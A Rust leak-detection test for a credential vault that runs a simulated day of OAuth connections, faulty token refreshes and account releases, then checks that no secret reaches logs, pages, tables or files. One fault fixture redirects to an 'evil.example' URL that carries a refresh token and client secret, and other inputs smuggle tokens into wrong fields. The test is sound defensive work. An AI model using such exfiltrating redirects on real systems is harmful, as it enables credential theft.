//! security.md LS-01, CV-16, CV-24; vault.md F35: a long day of a vault, with all that goes wrong on one. Nothing that a provider
//! issued or a source holds is in a log, a metric, an answer, a page, a webhook, a table or a file, but where it was asked for.

use crate::leaks::{BOOK, Canaries, Recording};
use crate::on_both;
use crate::support::browser::View;
use crate::support::provider::{App, Fault, Mode, Plan, Rotation, Says, When};
use crate::support::vault::{CLIENT, SECRET, Vault};
use crate::support::{Answer, Browser};
use crate::vault_cli::runs;
use crate::webhooks::Receiver;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::time::Duration;

const HOUR: Duration = Duration::from_secs(3_600);
const SECOND: &str = "crm-second-canary-secret";
const WRONG: &str = "crm-wrong-canary-secret";
const KEY: &str = "canary-key-of-zoe-at-keys";
const WRONG_KEY: &str = "canary-key-that-is-wrong";
const MADE_UP: &str = "canary-token-that-nobody-issued";

struct Day {
    vault: Vault,
    ada: Browser,
    /// Answers, pages and lines in which no secret may be, and what they are.
    said: Vec<(String, String)>,
    /// What was handed out to whoever asked for it: access tokens may be there.
    handed: Vec<(String, String)>,
    /// What the provider doesn't know of.
    own: Vec<(String, String)>,
}

impl Day {
    fn says(&mut self, what: &str, answer: &Answer) {
        self.said.push((what.to_owned(), format!("{:?} {}", answer.headers, answer.body)));
    }

    fn shows(&mut self, what: &str, view: &View) {
        self.said.push((what.to_owned(), format!("{:?} {}", view.headers, view.body)));
    }

    fn own(&mut self, what: &str, secret: &Value) {
        self.own.push((what.to_owned(), secret.as_str().unwrap_or_else(|| panic!("no {what}")).to_owned()));
    }

    /// Whoever was away for long signs in again.
    async fn arrives(&mut self) {
        self.ada = self.vault.house.browser();
        self.ada.arrives_as("ada").await;
    }

    async fn begins(vault: Vault) -> Self {
        let mut ada = vault.house.browser();
        ada.arrives_as("ada").await;
        let mut day = Day { vault, ada, said: Vec::new(), handed: Vec::new(), own: Vec::new() };
        for (what, secret) in [
            ("wrong secret", WRONG),
            ("second secret", SECOND),
            ("key", KEY),
            ("wrong key", WRONG_KEY),
            ("made up", MADE_UP),
        ] {
            day.own(what, &json!(secret));
        }
        day
    }

    /// Two secrets at once, one that the provider refuses, one that is too long.
    async fn sources(&mut self) {
        let both = json!({ "client_secrets": [SECOND, SECRET], "scopes": ["read"] });
        self.vault.crm.secrets_are(CLIENT, &[SECRET, SECOND]);
        let changed = self.vault.ada.patches("/v1/sources/crm", &both).await.ok();
        self.says("a changed source", &changed);
        let mut params = json!({});
        for (name, path) in [("authorize_url", "authorize"), ("token_url", "token"), ("userinfo_url", "api/me")] {
            params[name] = json!(self.vault.crm.at(path));
        }
        let mut ask = json!({ "type": "oauth2", "slug": "refused", "client_id": CLIENT, "client_secret": WRONG, "params": params });
        let made = self.vault.ada.posts("/v1/sources", &ask).await;
        assert_eq!(made.status, 201, "{}", made.body);
        self.says("a refused source", &made);
        let verified = self.vault.ada.posts("/v1/sources/refused/verify", &json!({})).await;
        self.says("what the provider says of it", &verified);
        let given = self.vault.crm.gives(CLIENT, "yan", "read");
        let bring = json!({ "source": "refused", "credentials": { "oauth_refresh_token": given.refresh_token } });
        let refused = self.vault.ada.with("idempotency-key", "refused").posts("/v1/accounts", &bring).await;
        assert_eq!(refused.status, 424, "{}", refused.body);
        self.says("an account of it", &refused);
        ask["client_secrets"] = json!([WRONG]);
        ask["slug"] = json!(format!("{WRONG} {WRONG}"));
        let refused = self.vault.ada.posts("/v1/sources", &ask).await;
        assert_eq!(refused.status, 422);
        self.says("a source that isn't one", &refused);
        let keys =
            json!({ "type": "api_key", "slug": "keys", "params": { "verify_url": self.vault.crm.at("api/me") } });
        assert_eq!(self.vault.ada.posts("/v1/sources", &keys).await.status, 201);
    }

    /// The whole way in a browser, the same address once more, and one whose code is nobody's.
    async fn connects(&mut self) -> String {
        let mut account = String::new();
        for well in [true, false] {
            let made = self.vault.ada.posts("/v1/connect_sessions", &json!({ "source": "crm" })).await;
            assert_eq!(made.status, 201, "{}", made.body);
            self.own("link", &made.body["data"]["token"]);
            let link = made.body["data"]["connect_url"].as_str().expect("a link").to_owned();
            let page = self.ada.get(&link).await;
            assert_eq!(page.status, 200, "{}", page.body);
            let sent = self.ada.get_once(&format!("{link}/start")).await;
            assert_eq!(sent.status, 302, "{}", sent.body);
            let mut back = self.vault.crm.allows(sent.location(), "zoe").await;
            if !well {
                back = back.replace("code=", "code=canary-code-of-nobody");
                self.own("code of nobody", &json!("canary-code-of-nobody"));
            }
            let state = sent.sent("state").expect("a state");
            for _ in 0..2 {
                let done = self.ada.get_once(&back).await;
                assert_eq!(done.status, if well { 200 } else { 422 }, "{}", done.body);
                self.shows("the end of a connection", &done);
            }
            self.own("state", &json!(state));
            let path = format!("/v1/connect_sessions/{}", made.body["data"]["id"].as_str().expect("an id"));
            let poll = self.vault.ada.does("GET", &path).await.ok();
            self.says("how it ended", &poll);
            if well {
                account = poll.body["data"]["account_id"].as_str().expect("an account").to_owned();
            }
        }
        account
    }

    /// A key typed in: first a wrong one.
    async fn types_a_key(&mut self) -> String {
        let made = self.vault.ada.posts("/v1/connect_sessions", &json!({ "source": "keys" })).await;
        let link = made.body["data"]["connect_url"].as_str().expect("a link").to_owned();
        self.own("link", &made.body["data"]["token"]);
        let mut page = self.ada.get(&link).await;
        for key in [WRONG_KEY, KEY] {
            let mut fields = page.form("form:has(#start)");
            fields.retain(|(name, _)| name != "api_key");
            fields.push(("api_key".to_owned(), key.to_owned()));
            page = self.ada.post(&link, &fields).await;
            assert_eq!(page.status, if key == KEY { 200 } else { 422 }, "{}", page.body);
            self.shows("a form for a key", &page);
        }
        let path = format!("/v1/connect_sessions/{}", made.body["data"]["id"].as_str().expect("an id"));
        let poll = self.vault.ada.does("GET", &path).await.ok();
        poll.body["data"]["account_id"].as_str().expect("an account").to_owned()
    }

    async fn reads(&mut self, account: &str) -> Answer {
        let read = self.vault.reads(account).await;
        match read.status {
            200 => self.handed.push(("credentials".to_owned(), read.body.to_string())),
            _ => self.says("no credentials", &read),
        }
        read
    }

    /// Everything that a refresh may come back with, some of it with our own token in it.
    async fn refreshes(&mut self, account: &str, grant: &str) {
        let live = self.vault.crm.live(grant).expect("a token");
        let echo = |error: &str| {
            Fault::Says(Says::Json(
                json!({ "error": error, "error_description": format!("{live} with {SECRET}"), "refresh_token_was": live }),
            ))
        };
        for (when, fault) in [
            (When::Read, Fault::Says(Says::Html(500))),
            (When::Read, echo("invalid_request")),
            (When::Read, echo(&live)),
            (
                When::Read,
                Fault::Says(Says::To(format!("https://evil.example/?refresh_token={live}&client_secret={SECRET}"))),
            ),
            (When::Read, Fault::Says(Says::TooMany(Some(3)))),
            (When::Done, Fault::Half),
            (When::Done, Fault::Reset),
            (When::Done, Fault::Broken),
            (When::Done, Fault::Media("text/html".to_owned())),
            (When::Done, Fault::Form),
            (When::Done, Fault::Expires(json!("abc"))),
        ] {
            self.vault.house.wait(2 * HOUR);
            self.vault.crm.meets(Plan::next(1, when, fault.clone()));
            self.reads(account).await;
            let seen = self.vault.ada.does("GET", &format!("/v1/accounts/{account}")).await.ok();
            self.says("an account in trouble", &seen);
            self.arrives().await;
            let page = self.ada.get(&format!("/account/connections/{account}")).await;
            assert!(page.first("#state").is_some(), "{}", page.text());
            self.shows("a connection in trouble", &page);
            self.vault.crm.behaves();
            self.vault.house.wait(HOUR);
            self.vault.until(account, |read| read.status == 200).await;
        }
        // Whoever sees a token fail says so by its digest.
        let version = self.vault.ada.posts(&format!("/v1/accounts/{account}/reject"), &json!({ "version": 1 })).await;
        self.says("a rejected token", &version);
        self.vault.house.app.db.fail_after(0);
        let away = self.vault.reads(account).await;
        self.vault.house.app.db.fail_after(-1);
        self.says("without a database", &away);
    }

    /// Refresh tokens that are brought: taken, refused, lost, taken twice, in the wrong place.
    async fn takes(&mut self) -> (String, String) {
        let (account, given) = self.vault.brings("yan").await;
        let live = self.vault.crm.live(&given.grant).expect("a token");
        let again = self.vault.takes(&self.vault.ada, &live).await;
        assert_eq!(again.status, 409);
        self.says("what is held already", &again);
        let refused = self.vault.takes(&self.vault.ada, MADE_UP).await;
        assert_eq!(refused.status, 422);
        self.says("a token of nobody", &refused);
        self.vault.crm.knows(&["cyrus"]);
        let lost = self.vault.crm.gives(CLIENT, "cyrus", "read");
        self.vault.crm.meets(Plan::next(1, When::Read, Fault::Reset));
        let unsure = self.vault.takes(&self.vault.ada, &lost.refresh_token).await;
        self.says("a lost answer", &unsure);
        self.vault.crm.behaves();
        for (path, body) in [
            (
                "/v1/accounts",
                json!({ "source": "crm", "credentials": { "refresh_token": live, "oauth_access_token": [live] } }),
            ),
            ("/v1/accounts", json!({ "source": live, "credentials": { "oauth_refresh_token": live } })),
            ("/v1/accounts", json!({ live.clone(): 1 })),
            ("/v1/connect_sessions", json!({ "source": live })),
        ] {
            let refused = self.vault.ada.with("idempotency-key", &live[..20]).posts(path, &body).await;
            assert!(refused.status >= 400, "{}", refused.body);
            // A member of our own making is named as it was written; nothing else of it comes back.
            if body.get(&live).is_none() {
                self.says("a token in the wrong place", &refused);
            }
        }
        (account, given.grant)
    }

    /// Given away and taken back, given away for good, given back to the provider.
    async fn frees(&mut self, account: &str, other: &str) {
        for (account, mode, verb) in [(account, "export", "cancel"), (account, "export", "ack"), (other, "revoke", "")]
        {
            let seen = self.vault.ada.does("GET", &format!("/v1/accounts/{account}")).await.ok();
            let ask = json!({ "mode": mode, "confirm_external_id": seen.body["data"]["external_id"] });
            let path = format!("/v1/accounts/{account}/custody");
            let key = format!("{mode}-{verb}");
            let freed = self.vault.ada.with("idempotency-key", &key).posts(&format!("{path}/free"), &ask).await.ok();
            if verb.is_empty() {
                self.says("what was given back", &freed);
                continue;
            }
            let release = json!({ "release_id": freed.body["data"]["release_id"] });
            let refused = self.vault.reads(account).await;
            self.says("what is freed", &refused);
            let closed = self.vault.ada.posts(&format!("{path}/{verb}"), &release).await;
            assert_eq!(closed.status / 100, 2, "{verb}: {}", closed.body);
            self.says("how a release ended", &closed);
        }
    }

    /// All that can be looked at.
    async fn looks(&mut self, accounts: &[String]) {
        let mut paths = [
            "/v1/sources",
            "/v1/sources/crm",
            "/v1/sources/refused",
            "/v1/accounts",
            "/v1/webhooks",
            "/v1/source_types/oauth2",
        ]
        .map(str::to_owned)
        .to_vec();
        let hooks = self.vault.ada.does("GET", "/v1/webhooks").await.ok();
        paths.push(format!("/v1/webhooks/{}/deliveries", hooks.body["data"][0]["id"].as_str().expect("an id")));
        for account in accounts {
            paths.extend(["", "/events", "/reads", "/shares"].map(|more| format!("/v1/accounts/{account}{more}")));
        }
        for path in paths {
            let seen = self.vault.ada.does("GET", &path).await;
            assert_eq!(seen.status, 200, "{path}: {}", seen.body);
            self.says(&path, &seen);
        }
        self.arrives().await;
        let source = self.vault.source.clone();
        let mut pages = vec![
            "/account".to_owned(),
            format!("/admin/workspaces/acme/sources/{source}"),
            "/admin/workspaces/acme".to_owned(),
        ];
        pages.extend(accounts.iter().map(|account| format!("/account/connections/{account}")));
        pages.extend(accounts.iter().map(|account| format!("/admin/connections/{account}")));
        for path in pages {
            let page = self.ada.get(&path).await;
            assert!(page.status == 200 && page.first("#sign-in").is_none(), "{path}: {}", page.text());
            self.shows(&path, &page);
        }
        for line in [
            "source show crm --workspace acme",
            "source list --workspace acme",
            "account list --workspace acme",
            "audit export --format json",
        ] {
            let (code, out, err) = runs(&self.vault, line, "").await;
            assert_eq!(code, 0, "{line}: {err}");
            self.said.push((line.to_owned(), format!("{out}{err}")));
        }
        self.said.push(("metrics".to_owned(), self.vault.house.app.metrics.text()));
    }
}

fn files(dir: &std::path::Path, into: &mut Vec<std::path::PathBuf>) {
    for entry in std::fs::read_dir(dir).into_iter().flatten() {
        let path = entry.expect("an entry").path();
        if path.is_dir() { files(&path, into) } else { into.push(path) }
    }
}

on_both! {
    async fn ls_01_cv_16_cv_24_no_secret_of_a_provider_or_a_source_is_where_it_wasnt_asked_for(house: House) {
        let recording = Recording::begin();
        let mode = Mode { api_keys: [(KEY.to_owned(), "zoe".to_owned())].into(), ..Rotation::Additive.into() };
        let vault = Vault::set(house.kind, mode, json!({ "rotation": "none" }), |_| {}).await;
        vault.crm.registers(App { secrets: vec![SECRET.to_owned(), SECOND.to_owned()], ..App::new(CLIENT, SECRET, "") });
        let source = vault.ada.does("GET", "/v1/sources/crm").await.ok();
        vault.crm.returns_to(CLIENT, source.body["data"]["redirect_uri"].as_str().expect("one"));
        let (heard, deaf) = (Receiver::open(), Receiver::open());
        deaf.says(500);
        let mut day = Day::begins(vault).await;
        for receiver in [&heard, &deaf] {
            let hook = day.vault.ada.posts("/v1/webhooks", &json!({ "url": receiver.url })).await;
            assert_eq!(hook.status, 201, "{}", hook.body);
            day.own("webhook", &hook.body["data"]["secret"]);
        }
        day.sources().await;
        let zoe = day.connects().await;
        let keyed = day.types_a_key().await;
        let grant = day.vault.crm.grant_of("zoe");
        day.refreshes(&zoe, &grant).await;
        let (yan, _) = day.takes().await;
        day.reads(&yan).await;
        day.reads(&keyed).await;
        day.frees(&zoe, &yan).await;
        day.looks(&[zoe, yan, keyed]).await;
        let told = heard.until(6).await;
        day.said.extend(told.iter().chain(&deaf.all()).map(|message| ("a webhook".to_owned(), format!("{message:?}"))));
        tracing::trace!(target: "leaks", "a planted canary: Z2hvc3QtY2FuYXJ5LWdob3N0");
        drop(recording);

        let issued = day.vault.crm.secrets();
        let tokens: BTreeSet<&String> = issued.iter().filter(|secret| secret.len() >= 20).collect();
        assert!(tokens.len() > 40, "only {} secrets were issued", tokens.len());
        let mut secrets = Canaries::default();
        for secret in &issued {
            secrets.add(secret, secret.as_bytes());
        }
        let verifiers = day.vault.crm.calls("token").into_iter().flat_map(|call| call.params);
        let verifiers = verifiers.filter(|(name, _)| name == "code_verifier");
        for (what, secret) in day.own.iter().cloned().chain(verifiers) {
            secrets.add(&what, secret.as_bytes());
        }
        assert!(secrets.forms.iter().any(|(name, _)| name == "code_verifier"));
        // The search finds what is there.
        let book = BOOK.lock().expect("a book").clone();
        let mut planted = Canaries::default();
        planted.add("in the log", b"ghost-canary-ghost");
        assert_eq!(planted.found_in(&book), ["in the log"]);
        assert!(!secrets.found_in(day.handed[0].1.as_bytes()).is_empty(), "what was handed out has a token in it");

        let lines = || book.split(|byte| *byte == b'\n').filter(|line| !secrets.found_in(line).is_empty());
        assert_eq!(secrets.found_in(&book), Vec::<&str>::new(), "in the log: {:?}", lines().map(String::from_utf8_lossy).next());
        for (what, body) in &day.said {
            let mut found = secrets.found_in(body.as_bytes());
            // A form is sent to where it is.
            found.retain(|name| what != "a form for a key" || *name != "link");
            assert_eq!(found, Vec::<&str>::new(), "in {what}: {body}");
        }
        // What is handed out are access tokens and keys: never what refreshes them, nor what we prove ourselves with.
        for (what, body) in &day.handed {
            let found = secrets.found_in(body.as_bytes());
            assert!(found.iter().all(|name| day.vault.crm.was_for_the_api(name) || *name == "key"), "{found:?} in {what}");
        }
        let tables = day.vault.house.tables().await;
        assert!(tables.values().map(Vec::len).sum::<usize>() > 60);
        for (table, rows) in &tables {
            for row in rows {
                assert_eq!(secrets.found_in(row.as_bytes()), Vec::<&str>::new(), "in the table {table}: {row}");
            }
        }
        let mut all = Vec::new();
        files(&day.vault.house.dir.join("data"), &mut all);
        assert!(all.iter().any(|path| path.extension().is_some_and(|ending| ending == "sealed")), "no spool: {all:?}");
        for path in all {
            let bytes = std::fs::read(&path).unwrap_or_default();
            assert_eq!(secrets.found_in(&bytes), Vec::<&str>::new(), "in {}", path.display());
        }
    }
}
